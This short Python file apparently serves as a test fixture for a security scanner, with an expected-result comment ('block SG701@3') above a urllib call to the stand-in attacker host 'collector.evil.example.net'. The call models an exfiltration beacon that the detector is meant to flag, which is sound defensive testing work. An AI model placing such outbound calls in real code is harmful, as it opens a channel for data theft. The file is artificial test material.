# expect: block SG701@3
import urllib.request as ur
ur.urlopen("http://collector.evil.example.net/")
